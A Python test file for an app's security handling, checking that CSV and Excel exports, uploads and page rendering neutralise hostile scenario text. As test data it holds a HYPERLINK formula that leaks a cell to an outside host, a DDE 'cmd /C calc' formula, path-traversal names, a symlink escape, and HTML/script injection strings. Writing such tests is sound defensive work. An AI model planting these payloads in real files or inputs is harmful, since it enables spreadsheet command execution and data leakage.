"""Hostile input (issue 14, security): scenario text exported as data, never as formulas;
uploads resolved inside the scenario folder only; only regular files read."""

from __future__ import annotations

import csv
import io
import json
import os
import re
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from streamlit.testing.v1 import AppTest

from app.compute import View, compute_view
from app.exports import results_csv, results_xlsx, verdict_table
from app.state import read_upload, scenario_files
from model.catalogue import LEVERS
from model.cli import main
from model.document import markdown
from model.errors import ScenarioError
from model.levers import plan_levers
from model.scenario import MAX_FILE_BYTES, load_scenario, parse_scenario
from model.system import LOOPS, SECTORS
from model.untrusted import csv_text, safe_cells, safe_key, write_csv

from .conftest import KECHENG
from .page_tables import html_tables
from .test_app import _errors, _keep_main_module, _picker, _plain, _start  # noqa: F401

HYPERLINK = '=HYPERLINK("https://x/"&A1,"x")'
DDE = "=1+cmd|' /C calc'!A0"
FORMULAS = (HYPERLINK, DDE, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1")


def hostile_text(quote: str = HYPERLINK, reason: str = DDE, indicator: str = "@SUM(A1)") -> str:
    """Kecheng's file with an untracked target whose quote, reason and name are formulas."""
    text = KECHENG.read_text("utf-8")
    old = ('indicator = "free_patent_licences"', 'quote = "每年免费许可专利成果5项以上"',
           'reason = "the model does not count patent licences"')
    for before in old:
        assert before in text
    text = text.replace(old[0], f"indicator = {json.dumps(indicator)}")
    text = text.replace(old[1], f"quote = {json.dumps(quote)}")
    return text.replace(old[2], f"reason = {json.dumps(reason)}")


def view_of(text: str) -> tuple[dict[str, float], View]:
    scenario = parse_scenario(text, "hostile.toml")
    levers = plan_levers(scenario)
    return levers, compute_view(scenario, levers, {}, runs=20, seed=1)


@pytest.fixture(scope="module")
def hostile() -> tuple[dict[str, float], View]:
    return view_of(hostile_text())


@pytest.mark.parametrize("language", ["zh", "en"])
def test_the_excel_export_holds_hostile_text_as_text_never_as_formulas(hostile, language):
    levers, view = hostile
    names = {k: LEVERS[k].label(language) for k in levers}
    data = results_xlsx(view, language, levers, levers, names)
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    # The text is kept exactly as the scenario wrote it (no prefix), typed as text.
    shown = HYPERLINK if language == "zh" else "@SUM(A1)"
    assert shown in texts
    # the reason as written (the Chinese page quotes an untranslated one in a sentence)
    assert DDE in texts if language == "en" else any(DDE in text for text in texts)
    for cell in cells:
        if cell.value in (HYPERLINK, DDE, "@SUM(A1)"):
            assert cell.data_type == "s" and cell.quotePrefix


def test_every_formula_like_csv_cell_starts_with_a_quote():
    frame = pd.DataFrame({"text": list(FORMULAS), "number": range(len(FORMULAS))},
                         index=pd.Index(["=index"] * len(FORMULAS), name="=name"))
    frame["plain"] = "R&D intensity"
    rows = list(csv.reader(io.StringIO(write_csv(frame), newline="")))
    assert rows[0][0] == "'=name"
    for row, formula in zip(rows[1:], FORMULAS, strict=True):
        assert row[0] == "'=index" and row[1] == "'" + formula
        assert row[2].lstrip("-").isdigit() and row[3] == "R&D intensity"
    assert safe_cells(pd.DataFrame({"x": [-1.5]}))["x"].iloc[0] == -1.5  # numbers stay numbers
    # A CR inside a cell is quoted, so no spreadsheet splits the row there and reads the
    # rest as a fresh, unprefixed cell.
    text = write_csv(pd.DataFrame({"q": [f"x\r{DDE}"]}), index=False)
    assert list(csv.reader(io.StringIO(text, newline=""))) == [["q"], [f"x\r{DDE}"]]
    assert csv_text("柯城区") == "柯城区"


def test_the_results_csv_and_the_verdict_table_keep_their_text(hostile):
    _, view = hostile
    text = results_csv(view, "en").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if c.startswith(("=", "+", "@")) or c[:1] == "-"
                and not c[1:2].isdigit()]
    table = verdict_table(view, "zh", modelled=False)
    assert HYPERLINK in set(table["指标"])  # kept as written
    assert any(DDE in reason for reason in table["原因"])   # quoted in a Chinese sentence


def test_an_xlsx_export_survives_control_characters():
    levers, view = view_of(hostile_text(quote="a\x01b", reason="=\x07"))
    data = results_xlsx(view, "zh", levers, levers, {k: k for k in levers})
    texts = {c.value for sheet in openpyxl.load_workbook(io.BytesIO(data)).worksheets
             for row in sheet.iter_rows() for c in row}
    assert "a\ufffdb" in texts
    assert any(isinstance(x, str) and x.endswith("=\ufffd") for x in texts)  # the reason


def test_safe_key_keeps_names_inside_their_folder():
    assert safe_key("kecheng-2027") == "kecheng-2027"
    assert safe_key("柯城区_2027") == "柯城区_2027"
    for name in ("../escaped", "/etc/passwd", "a/b", "..", "", "a\x00b", "con:x"):
        key = safe_key(name)
        assert key and "/" not in key and ".." not in key and "\x00" not in key
    assert len(safe_key("x" * 300)) <= 80


# --- an uploaded variant resolves extends as the CLI does: inside the folder only ---------

def variant(parent: str) -> bytes:
    return f'extends = {json.dumps(parent)}\n[scenario]\nname = "v"\n'.encode()


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """A scenario folder with Kecheng, and ``evil.toml`` linking to a file outside it."""
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "x.toml").write_bytes(KECHENG.read_bytes())
    inner = tmp_path / "scenarios"
    inner.mkdir()
    (inner / KECHENG.name).write_bytes(KECHENG.read_bytes())
    (inner / "evil.toml").symlink_to(outside / "x.toml")
    return inner


def test_an_upload_extending_a_symlink_out_of_the_folder_is_refused_as_by_the_cli(
        folder, capsys):
    data = variant("evil.toml")
    with pytest.raises(ScenarioError) as upload:
        read_upload("shared.toml", data, folder)
    line = upload.value.line()
    assert line.startswith("shared.toml: extends: 'evil.toml' lies outside the scenarios folder")
    assert "\n" not in line
    (folder / "shared.toml").write_bytes(data)
    assert main(["validate", str(folder / "shared.toml")]) == 2
    cli = capsys.readouterr().err.strip()
    assert cli == f"{folder / 'shared.toml'}: " + line.split(": ", 1)[1]  # the same words
    # Nothing was copied or written next to the folder's files for the upload.
    assert sorted(p.name for p in folder.iterdir()) == ["evil.toml", KECHENG.name, "shared.toml"]


def test_an_upload_extending_the_folder_works_and_the_listing_keeps_to_the_folder(folder):
    (folder / "fifo.toml").unlink(missing_ok=True)
    os.mkfifo(folder / "fifo.toml")
    (folder / "dir.toml").mkdir()
    (folder / "dangling.toml").symlink_to(folder / "gone.toml")
    (folder / "inner.toml").symlink_to(folder / KECHENG.name)
    assert list(scenario_files(folder)) == [KECHENG.name, "inner.toml"]
    # Named like its parent: the upload is not the folder's file, so no false cycle.
    scenario = read_upload(KECHENG.name, variant(KECHENG.name), folder)
    assert scenario.meta.name == "v" and scenario.extends == (KECHENG.name,)
    for parent, problem in (("fifo.toml", "not found"), ("dir.toml", "not found"),
                            ("a\x00b.toml", "not a usable file name"),
                            ("x" * 300 + ".toml", "not a usable file name")):
        with pytest.raises(ScenarioError, match=problem) as error:
            read_upload("v.toml", variant(parent), folder)
        assert len(error.value.line()) < 400


@pytest.mark.parametrize("kind", ["fifo", "device", "folder", "large"])
def test_only_regular_files_of_bounded_size_are_read(tmp_path, kind, capsys):
    path = tmp_path / "x.toml"
    if kind == "fifo":
        os.mkfifo(path)         # reading it would block for ever
    elif kind == "device":
        path.symlink_to("/dev/zero")   # reading it would never end
    elif kind == "folder":
        path.mkdir()
    else:
        path.write_bytes(b"#" * (MAX_FILE_BYTES + 1))
    with pytest.raises(ScenarioError) as error:
        load_scenario(path)
    expected = {"fifo": "is not a regular file", "device": "is not a regular file",
                "folder": "is a folder", "large": "file is 1,000,001 bytes"}[kind]
    assert error.value.line().startswith(f"{path}: (file): {expected}")
    assert main(["run", str(path)]) == 2
    assert capsys.readouterr().err.strip() == error.value.line()
    if kind == "folder":  # given to validate, a folder without scenarios is no success
        assert main(["validate", str(path)]) == 2
        assert "a folder without .toml scenario files" in capsys.readouterr().err


def test_an_unreadable_file_or_a_too_long_name_is_one_line(tmp_path):
    with pytest.raises(ScenarioError, match="cannot be read: File name too long"):
        load_scenario(tmp_path / ("x" * 300 + ".toml"))
    if os.geteuid() != 0:   # root reads anything
        locked = tmp_path / "locked.toml"
        locked.write_bytes(KECHENG.read_bytes())
        locked.chmod(0)
        with pytest.raises(ScenarioError, match="cannot be read: Permission denied"):
            load_scenario(locked)


# --- text from a file, an upload or the address is shown as text, never as Markdown --------

IMAGE = "![x](http://host/x.png)"
LINK = "[open the full plan](https://host/login)"
HTML = '<img src="http://host/y.png">'
# Markdown that would fetch or link: escaped, these characters are never side by side.
LIVE = re.compile(r"!\[|\]\(|(?<!\\)<|https?:")


def markdown_shown(at: AppTest) -> list[str]:
    """Every text the page renders as Markdown: body texts, alerts, captions, table cells."""
    texts = [e.value for kind in ("markdown", "caption", "error", "warning", "info", "success",
                                  "title", "subheader")
             for e in getattr(at, kind)]
    for table in at.table:
        frame = table.value
        texts += [str(c) for c in [*frame.columns, *frame.to_numpy().ravel()]]
    return texts


def html_shown(at: AppTest) -> list[str]:
    """Every HTML block the page draws (the verdict table, app/tables.py) as sent."""
    return [block.value for block in at.get("html")]


# A tag that is not the page's own (a table and the style sheet): one a file's text brought.
LIVE_HTML = re.compile(r"<(?!/?(div|table|thead|tbody|tr|th|td|style)\b)", re.IGNORECASE)


def hostile_page_text() -> str:
    """Kecheng with Markdown in its region, plan, an untracked target's quote and reason, and
    HTML in a tracked target's quote."""
    text = hostile_text(quote=IMAGE, reason=LINK, indicator=HTML)
    for key, value in (("region", IMAGE), ("plan", LINK), ("region_en", HTML),
                       ("plan_en", IMAGE)):
        text, count = re.subn(rf"^{key} = .*$", f"{key} = {json.dumps(value)}", text, count=1,
                              flags=re.MULTILINE)
        assert count == 1
    # ... and a tracked target's quote: the verdict table (HTML) shows it as text
    old = 'quote = "全社会R&D经费投入占GDP比重突破3.2%"'
    assert old in text
    return text.replace(old, f"quote = {json.dumps(TRACKED_QUOTE)}")


TRACKED_QUOTE = f"{HTML} <script>alert(1)</script> & {LINK}"


@pytest.fixture
def hostile_folder(tmp_path, monkeypatch) -> Path:
    folder = tmp_path / "scenarios"
    folder.mkdir()
    (folder / KECHENG.name).write_bytes(KECHENG.read_bytes())
    (folder / "hostile.toml").write_text(hostile_page_text(), encoding="utf-8")
    monkeypatch.setenv("INNOSIM_SCENARIOS", str(folder))
    return folder


@pytest.mark.parametrize("language", ["zh", "en"])
def test_a_scenarios_markdown_is_shown_as_text(hostile_folder, language):
    at = _start(scenario="hostile.toml", lang=language)
    assert not at.exception and not at.error, _errors(at.error)
    # The model's own documentation (the structure tab) is written by innosim from the
    # code, its in-page anchors included; everything else must hold no live Markdown.
    own = markdown(SECTORS, LOOPS).split("\n", 1)[0]
    shown = [text for text in markdown_shown(at) if not text.startswith(own)]
    assert not [text for text in shown if LIVE.search(text)]
    # The verdict table is HTML (app/tables.py): a file's text in it is escaped, no tag or
    # link of its own; read back, the cells show the text as written.
    blocks = html_shown(at)
    assert any("<table" in block for block in blocks)
    assert not [block for block in blocks if LIVE_HTML.search(block)]
    cells = {str(c) for frame in html_tables(at) for c in frame.to_numpy().ravel()}
    indicator = "全社会R&D经费投入占GDP比重" if language == "zh" else "R&D intensity"
    assert indicator in cells and TRACKED_QUOTE in cells
    # ... and it is there, as written, for the reader.
    region = IMAGE if language == "zh" else HTML
    assert any(_plain(c.value).startswith(f"{region} · ") for c in at.caption)
    at.session_state["untracked_open"] = True   # the list is drawn when its panel is open
    untracked = at.run().table[0].value
    assert not at.exception
    words = {_plain(str(c)) for c in untracked.to_numpy().ravel()}
    # the plan's own wording (the quote) in both languages, and the reason as written (on
    # the Chinese page quoted in a sentence: it has no translation)
    assert any(word.endswith(LINK) for word in words) and IMAGE in words


def test_address_values_are_shown_as_text_and_capped(hostile_folder):
    at = _start(scenario=IMAGE, lang=LINK, colour=HTML, fiscal_st_growth="x" * 100_000)
    assert not at.exception
    errors = [e.value for e in at.error]
    assert len(errors) == 4 and not [e for e in errors if LIVE.search(e)]
    assert all(len(_plain(e)) <= 300 and "\n" not in e for e in errors)
    assert any(_plain(e).endswith("…") for e in errors)


def test_an_odd_upload_name_is_shown_short_and_as_text(hostile_folder):
    at = _start()
    name = "[x](https:" + "y" * 300 + ").toml"
    at.file_uploader(key="upload").set_value((name, b"[scenario\n", "application/toml")).run()
    assert not at.exception
    (error,) = at.sidebar.error
    assert not LIVE.search(error.value) and len(_plain(error.value)) <= 300
    data = KECHENG.read_bytes()
    at.file_uploader(key="upload").set_value(("a\x00b" + "z" * 300 + ".toml", data,
                                              "application/toml")).run()
    picked = _picker(at).value.rpartition("/")[2]   # upload-<hash>/
    assert picked.endswith("….toml") and len(picked) <= 80 and "\x00" not in picked


def test_a_dollar_in_a_chart_label_or_title_is_no_math(hostile, tmp_path):
    from app.charts import comparison_figure, figure_png
    from model.plots import fan_chart

    _, view = hostile
    odd = r"a$\frac$.toml"   # matplotlib math that does not parse: it raised when drawn
    figure = comparison_figure({odd: (view.central, view.bands["rd_intensity"])},
                               "rd_intensity", "en")
    assert figure_png(figure).startswith(b"\x89PNG")
    quantiles = view.bands["rd_intensity"].rename_axis("year").reset_index().assign(
        indicator="rd_intensity", q25=0.0, q75=0.0)
    path = fan_chart(quantiles, ["rd_intensity"], tmp_path / "fan.png", title=odd)
    assert path.stat().st_size > 0


# --- a scenario's name is a file-name key, never a path --------------------------------------

@pytest.mark.parametrize(("command", "name"), [
    ("ensemble", "../escaped"), ("sensitivity", "ABSOLUTE"), ("ensemble", "a/b"),
    ("sensitivity", "x" * 300), ("ensemble", "ABSOLUTE")])
def test_a_scenarios_name_never_writes_outside_out(tmp_path, capsys, command, name):
    name = name.replace("ABSOLUTE", str(tmp_path / "absolute"))   # next to out/, not in it
    scenario = tmp_path / "plan.toml"
    text, count = re.subn(r'^name = "kecheng-2027"$', f"name = {json.dumps(name)}",
                          KECHENG.read_text("utf-8"), count=1, flags=re.MULTILINE)
    assert count == 1
    scenario.write_text(text, encoding="utf-8")
    out = tmp_path / "out"
    options = (["--runs", "20", "--no-plot"] if command == "ensemble"
               else ["--n", "16", "--params", "rd_depreciation,subsidy_rd_leverage"])
    code = main([command, str(scenario), *options, "--seed", "1", "--out", str(out),
                 "--format", "json"])
    assert code in (0, 1), capsys.readouterr().err
    written = sorted(p.relative_to(tmp_path) for p in tmp_path.rglob("*") if p.is_file())
    assert [p for p in written if p.parts[0] != "out"] == [Path("plan.toml")]
    assert all(len(p.parts) == 2 and p.name.startswith(safe_key(name)) for p in written
               if p.parts[0] == "out")
    assert json.loads(capsys.readouterr().out)
